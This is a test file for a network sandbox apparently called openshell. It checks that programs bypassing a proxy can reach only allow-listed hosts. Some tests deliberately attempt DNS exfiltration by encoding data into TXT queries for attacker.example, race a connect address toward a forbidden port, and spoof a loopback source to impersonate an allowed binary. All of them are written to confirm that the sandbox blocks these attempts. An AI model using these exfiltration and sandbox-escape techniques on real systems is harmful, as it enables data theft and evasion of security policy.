/** Programs that know nothing of a proxy: they look names up, connect, and get exactly what the policy says. */
import { execFileSync, spawn } from 'node:child_process';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OpenshellEvent } from '../../src/event/event.ts';
import { because, find, missing, node, nodeOptions } from './support/host.ts';
import { eventsOf, type Finished, inNamespaces, openshell } from './support/openshell.ts';
import { useScratch } from './support/scratch.ts';
import { serve, type WebServer } from './support/server.ts';

const scratch = useScratch();
const here = { cwd: scratch.project, home: scratch.home };
const lacking = missing('python3');
const python = lacking.length === 0;

let web: WebServer;
/** Speaks first, then says everything again. */
let echo: Server;
let echo6: Server | null = null;
/** Nobody may ever get here. */
let forbidden: Server;
let intruders = 0;

const greeting = (): Server =>
  createServer((socket) => {
    socket.on('error', () => socket.destroy());
    socket.write('hello\n');
    socket.pipe(socket);
  });
const listening = (server: Server, host: string): Promise<Server> =>
  new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen({ port: 0, host, backlog: 1024 }, () => resolve(server));
  });
const portOf = (server: Server): number => (server.address() as AddressInfo).port;

beforeAll(async () => {
  web = await serve((request, response) => response.end(`${request.method} ${request.headers.host}\n`));
  echo = await listening(greeting(), '127.0.0.1');
  echo6 = await listening(greeting(), '::1').catch(() => null);
  forbidden = await listening(
    createServer((socket) => {
      intruders += 1;
      socket.destroy();
    }),
    '127.0.0.1',
  );
});
afterAll(async () => {
  await web.close();
  for (const server of [echo, echo6, forbidden]) server?.close();
});

interface Done extends Finished {
  readonly events: readonly OpenshellEvent[];
}

let runs = 0;

async function inside(command: readonly string[], options: readonly string[] = []): Promise<Done> {
  runs += 1;
  const log = join(scratch.root, `events-${runs}`);
  const allowed = [
    'web.test:80',
    'echo.test:7000',
    '*.many.test:7000',
    ...(echo6 === null ? [] : ['six.test:7000']),
  ];
  const pinned = [
    `web.test:80:127.0.0.1:${web.port}`,
    `echo.test:7000:127.0.0.1:${portOf(echo)}`,
    ...(echo6 === null ? [] : [`six.test:7000:[::1]:${portOf(echo6)}`]),
    `denied.test:80:127.0.0.1:${portOf(forbidden)}`,
  ];
  const finished = await openshell(
    [
      'run',
      ...nodeOptions,
      ...allowed.flatMap((one) => ['--allow', one]),
      ...pinned.flatMap((one) => ['--connect-to', one]),
      ...['--events', log, ...options, '--', ...command],
    ],
    here,
  );
  return {
    ...finished,
    events: eventsOf(log).filter(({ subject }) => ['connect', 'name', 'unix'].includes(subject.kind)),
  };
}

const script = (text: string, options: readonly string[] = []) => inside(['python3', '-c', text], options);
const summary = ({ events }: Done): string[] =>
  events.map(({ reason, subject, count }) => {
    const what =
      subject.kind === 'connect'
        ? `${subject.host}:${subject.port} ${subject.via}`
        : subject.kind === 'name'
          ? `${subject.name} ${subject.query}`
          : subject.kind === 'unix'
            ? subject.path
            : '';
    return `${reason} ${what}${count > 1 ? ` x${count}` : ''}`;
  });

const NO_PROXY = [
  'env',
  '-u',
  'HTTP_PROXY',
  '-u',
  'http_proxy',
  '-u',
  'ALL_PROXY',
  '-u',
  'all_proxy',
  '-u',
  'NODE_USE_ENV_PROXY',
];
const GO = `package main
import ("fmt"; "io"; "net"; "net/http"; "os")
func main() {
  client := &http.Client{Transport: &http.Transport{Proxy: nil}}
  reply, err := client.Get("http://web.test/"); if err != nil { fmt.Println(err); os.Exit(1) }
  body, _ := io.ReadAll(reply.Body); fmt.Print(string(body))
  _, err = net.Dial("tcp", "203.0.113.7:80"); fmt.Println(err)
}
`;
const JAVA = `import java.net.*; import java.nio.*; import java.nio.channels.*;
class Direct { public static void main(String[] a) throws Exception {
  var s = Selector.open(); var c = SocketChannel.open(); c.configureBlocking(false);
  c.register(s, SelectionKey.OP_CONNECT); c.connect(new InetSocketAddress("echo.test", 7000));
  while (!c.isConnected()) { s.select(); for (var k : s.selectedKeys()) if (k.isConnectable()) c.finishConnect(); s.selectedKeys().clear(); }
  c.keyFor(s).interestOps(SelectionKey.OP_READ); s.select();
  var b = ByteBuffer.allocate(6); c.read(b); System.out.print(new String(b.array()));
} }
`;

describe('a program that does not use the proxy', () => {
  it.skipIf(find('curl') === null)('curl: an allowed host by its name, with one event', async () => {
    const done = await inside(['curl', '-sS', '--noproxy', '*', 'http://web.test/']);
    expect(done).toMatchObject({ code: 0, stdout: 'GET web.test\n', stderr: '' });
    expect(summary(done)).toEqual(['allowed web.test:80 direct']);
    expect(done.events[0]).toMatchObject({
      type: 'decision',
      layer: 'egress',
      rule: { policy: '--allow', index: 0 },
      subject: { address: '127.0.0.1' },
      process: { exe: find('curl'), sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
  });

  it.skipIf(find('curl') === null)('curl: another name does not exist, at once', async () => {
    const done = await inside(['curl', '-sS', '--noproxy', '*', 'http://denied.test/']);
    expect(done).toMatchObject({ code: 6, stdout: '' });
    expect(done.stderr).toContain('the name denied.test was not looked up: no network policy lists it');
    expect(summary(done)).toEqual([
      'endpoint_not_listed denied.test A',
      'endpoint_not_listed denied.test AAAA',
    ]);
  });

  it.skipIf(find('curl') === null)(
    'curl: an address, and another port, are refused with an errno',
    async () => {
      const done = await inside([
        'sh',
        '-c',
        'curl -sS --noproxy "*" http://203.0.113.7/; curl -sS --noproxy "*" http://web.test:81/',
      ]);
      expect(done.code).toBe(7);
      expect(summary(done)).toEqual([
        'endpoint_not_listed 203.0.113.7:80 direct',
        'endpoint_not_listed web.test:81 direct',
      ]);
    },
  );

  it('node: fetch, net and c-ares', async () => {
    const text = `const dns = require('dns').promises;
(async () => {
  console.log(await (await fetch('http://web.test/')).text(), (await dns.resolve4('web.test')).length, await dns.resolve6('web.test').catch((e) => e.code));
  console.log(await dns.resolve4('denied.test').catch((e) => e.code), await dns.resolveTxt('x.attacker.example').catch((e) => e.code));
  require('net').connect(7000, 'echo.test').on('data', function (d) { console.log(String(d)); this.destroy(); });
})();`;
    const done = await inside([...NO_PROXY, node, '-e', text]);
    expect(done.stdout).toBe('GET web.test\n 1 ENODATA\nENOTFOUND ENOTFOUND\nhello\n\n');
    expect(summary(done).sort()).toEqual([
      'allowed echo.test:7000 direct',
      'allowed web.test:80 direct',
      'endpoint_not_listed denied.test A',
      'endpoint_not_listed x.attacker.example TXT',
    ]);
  });

  it.skipIf(find('go') === null)('a static Go program, with its own resolver', async () => {
    scratch.write('home/project/direct.go', GO);
    const env = {
      ...process.env,
      CGO_ENABLED: '0',
      GOCACHE: scratch.directory('go'),
      GOFLAGS: '',
      HOME: scratch.home,
    };
    execFileSync(find('go')!, ['build', '-o', 'direct', 'direct.go'], { cwd: scratch.project, env });
    const done = await inside(['./direct']);
    expect(done).toMatchObject({
      code: 0,
      stdout: 'GET web.test\ndial tcp 203.0.113.7:80: connect: permission denied\n',
    });
  });

  it.skipIf(find('java') === null)('Java NIO, which registers its channel before it connects', async () => {
    scratch.write('home/project/Direct.java', JAVA);
    const done = await inside(['java', '-XX:+UseSerialGC', 'Direct.java']);
    expect(done, done.stderr).toMatchObject({ code: 0, stdout: 'hello\n' });
  });

  it.skipIf(find('ssh') === null)('ssh gets as far as the banner', async () => {
    const done = await inside(['ssh', '-v', '-o', 'BatchMode=yes', '-p', '80', 'web.test']);
    expect(done.stderr).toContain('Connection established');
  });
});

describe.skipIf(!python)(`a socket of a program${because(lacking)}`, () => {
  const HEAD = `import errno, os, select, socket, struct, threading, fcntl, ctypes
libc = ctypes.CDLL(None, use_errno=True)
ECHO = socket.getaddrinfo("echo.test", 7000, socket.AF_INET, socket.SOCK_STREAM)[0][4]
def name(call, *args):
    try: call(*args); return "ok"
    except OSError as e: return errno.errorcode[e.errno]
`;
  const tried = async (text: string) => {
    const done = await script(HEAD + text);
    expect(done.code, done.stderr).toBe(0);
    return done.stdout.trim().split('\n');
  };

  it('that blocks keeps its number, its flags and its options', async () => {
    const lines = await tried(`s = socket.socket(); n = s.fileno(); os.set_inheritable(n, True)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
s.connect(ECHO)
print(s.fileno() == n, os.get_inheritable(n), s.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY), s.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE) != 0)
print(s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), fcntl.fcntl(n, fcntl.F_GETFL) & os.O_NONBLOCK, len(s.getpeername()), s.getsockname()[1] != 0)
print(s.recv(6), s.send(b"abc"), s.recv(3))
t = socket.create_connection(ECHO); print(os.get_inheritable(t.fileno()))`);
    expect(lines).toEqual(['True True 1 True', '0 0 2 True', "b'hello\\n' 3 b'abc'", 'False']);
  });

  it.each([
    ['select', 'select.select([], [s], [], 10)[1] == [s]'],
    ['poll', 'bool((p := select.poll()).register(s, select.POLLOUT) or p.poll(10000))'],
    ['epoll', 'bool((p := select.epoll()).register(s, select.EPOLLOUT) or p.poll(10))'],
  ])('that does not block is waited for by %s', async (_how, wait) => {
    const lines = await tried(`s = socket.socket(); s.setblocking(False)
print(errno.errorcode.get(s.connect_ex(ECHO), "0") in ("EINPROGRESS", "0"), ${wait}, s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), s.connect_ex(ECHO) in (0, errno.EISCONN))
s.settimeout(10); print(s.recv(6))`);
    expect(lines).toEqual(['True True 0 True', "b'hello\\n'"]);
  });

  it.each([
    ['level triggered', 'select.EPOLLIN'],
    ['edge triggered', 'select.EPOLLIN | select.EPOLLET'],
    ['once', 'select.EPOLLIN | select.EPOLLONESHOT'],
  ])('that was in epoll sets before it connected stays there: %s', async (_how, events) => {
    const lines = await tried(`s = socket.socket(); s.setblocking(False)
sets = [select.epoll() for _ in range(3)]
for e in sets: e.register(s, ${events})
s.connect_ex(ECHO); print([e.poll(10) == [(s.fileno(), select.EPOLLIN)] for e in sets])
for e in sets: e.modify(s, select.EPOLLOUT); print(e.poll(10) == [(s.fileno(), select.EPOLLOUT)]); e.unregister(s)`);
    expect(lines).toEqual(['[True, True, True]', 'True', 'True', 'True']);
  });

  it('in epoll sets takes the place of the one that it was before its program goes on, however busy the machine is', async () => {
    const lines = await tried(`import os
children = []
for _ in range(4):
    pid = os.fork()
    if pid: children.append(pid); continue
    wrong = 0
    for _ in range(150):
        s = socket.socket(); s.setblocking(False); e = select.epoll(); e.register(s, select.EPOLLIN | select.EPOLLET)
        s.connect_ex(ECHO); wrong += e.poll(10) != [(s.fileno(), select.EPOLLIN)]; e.close(); s.close()
    os._exit(min(wrong, 99))
print([os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children])`);
    expect(lines).toEqual(['[0, 0, 0, 0]']);
  });

  it('has no registration of what it was before, once it connected', async () => {
    const lines = await tried(`bad = 0
for _ in range(500):
    s = socket.socket(); s.setblocking(False); e = select.epoll(); e.register(s, select.EPOLLIN)
    s.connect_ex(ECHO); bad += e.poll(10) != [(s.fileno(), select.EPOLLIN)]; e.close(); s.close()
print(bad)`);
    expect(lines).toEqual(['0']);
  });

  it('of many threads at once', async () => {
    const lines = await tried(`got = []
def work():
    s = socket.create_connection(ECHO); b = s.recv(6); s.send(b"x"); got.append((b, s.recv(1))); s.close()
for _ in range(5):
    threads = [threading.Thread(target=work) for _ in range(60)]
    for t in threads: t.start()
    for t in threads: t.join()
print(len(got), set(got))`);
    expect(lines).toEqual(["300 {(b'hello\\n', b'x')}"]);
  });

  it('gives an event for each connect, also for those that the warden allows by itself', async () => {
    const done = await script(`${HEAD}for _ in range(500): socket.create_connection(ECHO).close()`);
    expect(done.code, done.stderr).toBe(0);
    expect(summary(done).filter((line) => line === 'allowed echo.test:7000 direct')).toHaveLength(500);
  });

  it('copied after it connected is the same; copied before, the copy stays inside', async () => {
    const lines = await tried(`s = socket.socket(); before = s.dup(); s.connect(ECHO); after = s.dup()
print(after.recv(6), name(before.getpeername))`);
    expect(lines).toEqual([`b'hello\\n' ${inNamespaces ? 'ENOTCONN' : 'ok'}`]);
  });

  it('above a limit of open files that was lowered since fails, and does not wait', async () => {
    const lines = await tried(`import resource
s = socket.socket(); resource.setrlimit(resource.RLIMIT_NOFILE, (s.fileno(), 4096)); print(name(s.connect, ECHO))`);
    expect(lines).toEqual([inNamespaces ? 'EBADF' : 'ok']);
  });

  it('of the host becomes nothing else', async () => {
    const lines = await tried(`s = socket.create_connection(ECHO); s.recv(6)
class Unspecified(ctypes.Structure): _fields_ = [("family", ctypes.c_ushort), ("rest", ctypes.c_char * 14)]
def raw(call, *args): return "ok" if call(*args) == 0 else errno.errorcode[ctypes.get_errno()]
print(raw(libc.connect, s.fileno(), ctypes.byref(Unspecified()), 16) != "ok", name(s.connect, ECHO), name(s.connect, ("127.0.0.1", ${portOf(forbidden)})))
print(name(s.bind, ("0.0.0.0", 0)), name(s.listen), name(s.sendto, b"x", socket.MSG_FASTOPEN, ECHO))
print(name(s.setsockopt, 41, 57, b"\\0" * 24), s.send(b"still"), s.recv(5))
t = socket.create_connection(ECHO); t.shutdown(socket.SHUT_RDWR)
try: t.recv(9)
except ConnectionResetError: pass
print(name(t.connect, ("127.0.0.1", ${portOf(forbidden)})) != "ok")`);
    expect(lines[0]).toMatch(/^True (EISCONN|EACCES) (EISCONN|EACCES)$/);
    expect(lines.slice(1)).toEqual([
      `${inNamespaces ? 'EACCES EACCES' : 'EINVAL EINVAL'} ENOTSUP`,
      "ENOPROTOOPT 5 b'still'",
      'True',
    ]);
    expect(intruders).toBe(0);
  });

  it('of IPv6, and of IPv6 for an IPv4 address', async () => {
    if (echo6 === null) return;
    const lines =
      await tried(`SIX = socket.getaddrinfo("six.test", 7000, socket.AF_INET6, socket.SOCK_STREAM)[0][4]
s = socket.create_connection(SIX[:2]); print(SIX[0].startswith("fd6f:7065"), s.family == socket.AF_INET6, s.recv(6))
t = socket.socket(socket.AF_INET6); t.connect(("::ffff:" + ECHO[0], 7000)); print(t.recv(6))
print(name(socket.socket(socket.AF_INET6).connect, ("::ffff:203.0.113.7", 80)), name(socket.socket(socket.AF_INET6).connect, ("64:ff9b::7f00:1", 80)), name(socket.socket(socket.AF_INET6).connect, ("2001:db8::1", 80)))`);
    expect(lines).toEqual(["True True b'hello\\n'", "b'hello\\n'", 'EACCES EACCES EACCES']);
  });

  it('for datagrams goes to the policy DNS alone', async () => {
    const done = await script(`${HEAD}def udp(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(name(udp().connect, ("203.0.113.53", 53)), name(udp().connect, ("203.0.113.1", 443)), name(udp().sendto, b"x", ("203.0.113.53", 53)), name(udp().connect, (ECHO[0], 0)))`);
    expect(done.stdout).toBe('EACCES EACCES EACCES ok\n');
    expect(summary(done)).toEqual([
      'datagram_not_allowed 203.0.113.53:53 datagram x2',
      'datagram_not_allowed 203.0.113.1:443 datagram',
    ]);
  });

  it('whose address another thread rewrites is connected to what was judged, or not at all', async () => {
    const rounds = 3000;
    const done = await script(`${HEAD}import time
good = struct.pack("=HH", 2, socket.htons(7000)) + socket.inet_aton(ECHO[0]) + b"\\0" * 8
bad = [struct.pack("=HH", 2, socket.htons(${portOf(forbidden)})) + socket.inet_aton(a) + b"\\0" * 8 for a in ("127.0.0.1", "203.0.113.7")]
memory = ctypes.create_string_buffer(good, 16); stop = False
def rewrite():
    i = 0
    while not stop: ctypes.memmove(memory, bad[i & 1], 16); ctypes.memmove(memory, good, 16); i += 1
thread = threading.Thread(target=rewrite); thread.start()
results = {}
for _ in range(${rounds}):
    s = socket.socket(); s.settimeout(None)
    r = libc.connect(s.fileno(), memory, 16)
    key = "ok" if r == 0 else errno.errorcode[ctypes.get_errno()]
    if r == 0 and s.recv(6) != b"hello\\n": key = "wrong"
    results[key] = results.get(key, 0) + 1; s.close()
stop = True; thread.join(); print("wrong" in results, set(results) <= {"ok", "EACCES", "ECONNREFUSED"}, sum(results.values()))`);
    expect(done.stdout, done.stderr).toBe(`False True ${rounds}\n`);
    expect(intruders).toBe(0);
  });

  it('waits without blocking the others, and a signal ends its wait', async () => {
    const hole = spawn('python3', [
      '-c',
      `import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(0); k = []
for _ in range(4):
    c = socket.socket(); c.setblocking(False); c.connect_ex(s.getsockname()); k.append(c)
print(s.getsockname()[1], flush=True); sys.stdin.read()`,
    ]);
    const port = await new Promise<string>((resolve) =>
      hole.stdout.once('data', (text) => resolve(String(text).trim())),
    );
    try {
      const done = await script(
        `${HEAD}import signal, time
def ring(*_): raise InterruptedError()
signal.signal(signal.SIGALRM, ring)
HOLE = socket.getaddrinfo("hole.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
threading.Thread(target=lambda: name(socket.socket().connect, HOLE), daemon=True).start()
print(socket.create_connection(ECHO).recv(6))
signal.setitimer(signal.ITIMER_REAL, 0.3); began = time.monotonic()
try: socket.socket().connect(HOLE)
except InterruptedError: print("interrupted", time.monotonic() - began < 5)
import sys; sys.stdout.flush(); os._exit(0)`,
        ['--allow', 'hole.test:80', '--connect-to', `hole.test:80:127.0.0.1:${port}`],
      );
      expect(done.stdout, done.stderr).toBe("b'hello\\n'\ninterrupted True\n");
    } finally {
      hole.kill('SIGKILL');
    }
  });
});

describe.skipIf(!python)(`names${because(lacking)}`, () => {
  it('that no rule lists carry nothing out, by UDP and TCP, and are recorded', async () => {
    const done = await script(`import socket, struct
q = lambda name: struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\\0\\0\\x10\\0\\1"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(10); u.sendto(q(b"c2VjcmV0.attacker.example"), ("127.0.0.53", 53)); print(u.recv(600)[3] & 15)
t = socket.create_connection(("127.0.0.53", 53)); m = q(b"dHdpY2U.attacker.example"); t.send(struct.pack(">H", len(m)) + m); print(t.recv(600)[5] & 15)
t.send(b"\\xff\\xff" + b"x" * 100); print(t.recv(10))
u.sendto(b"\\0" * 11, ("127.0.0.53", 53)); u.sendto(b"\\xff" * 1400, ("127.0.0.53", 53)); u.sendto(q(b"web.test"), ("127.0.0.53", 53)); print(u.recv(600)[3] & 15)`);
    expect(done.stdout, done.stderr).toBe("3\n3\nb''\n0\n");
    expect(summary(done)).toEqual([
      'endpoint_not_listed c2VjcmV0.attacker.example TXT',
      'endpoint_not_listed dHdpY2U.attacker.example TXT',
    ]);
  });

  it('are resolved at the start where the policy says so, and what failed then fails', async () => {
    const policy = scratch.policy(
      [
        'version: 1',
        'dns: {pin: start}',
        'network_policies:',
        '  a:',
        '    endpoints: [{host: pinned.test, port: 7000}, {host: gone.invalid, port: 80}]',
        '    binaries: [{path: /**}]',
        '',
      ].join('\n'),
      'pinned.yaml',
    );
    const done = await script(
      `import socket
print(socket.create_connection(("pinned.test", 7000)).recv(6))
try: socket.getaddrinfo("gone.invalid", 80)
except socket.gaierror as e: print(e.errno == socket.EAI_AGAIN)`,
      ['--policy', policy, '--connect-to', `pinned.test:7000:127.0.0.1:${portOf(echo)}`],
    );
    expect(done.stdout, done.stderr).toBe("b'hello\\n'\nTrue\n");
  });

  it('under a pattern are short and few', async () => {
    const done = await script(`import socket
def look(n):
    try: socket.getaddrinfo(n, 7000, socket.AF_INET); return True
    except socket.gaierror as e: return e.errno != socket.EAI_NONAME
print(look("x" * 41 + ".many.test"))`);
    expect(done.stdout).toBe('False\n');
    expect(summary(done)).toEqual([`too_many_names ${'x'.repeat(41)}.many.test A`]);
  });
});

describe.skipIf(!python || find('curl') === null)(`the proxy${because(lacking)}`, () => {
  it('does not take a program for another one that has the same port at another loopback address', async () => {
    const policy = scratch.policy(
      [
        'version: 1',
        'network_policies:',
        '  web:',
        '    endpoints: [{host: web.test, port: 80}]',
        `    binaries: [{path: ${find('curl')}, ancestors: false}]`,
        '',
      ].join('\n'),
    );
    const attack = `import socket, subprocess
s = socket.socket(); s.bind(("127.0.0.2", 0)); port = str(s.getsockname()[1])
s.connect(("127.0.0.1", 3128))
curl = ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--interface", "127.0.0.1", "--local-port", port, "http://web.test/curl"]
print(subprocess.run(curl, capture_output=True, text=True).stdout)
s.sendall(b"GET http://web.test/attack HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: close\\r\\n\\r\\n")
print(s.recv(12))`;
    const before = web.asked.length;
    const done = await openshell(
      [
        'run',
        '--policy',
        policy,
        '--connect-to',
        `web.test:80:127.0.0.1:${web.port}`,
        '--',
        'python3',
        '-c',
        attack,
      ],
      here,
    );
    expect(done.stdout, done.stderr).toBe("200\nb'HTTP/1.1 403'\n");
    expect(web.asked.slice(before).filter((line) => line.includes('attack'))).toEqual([]);
  });
});
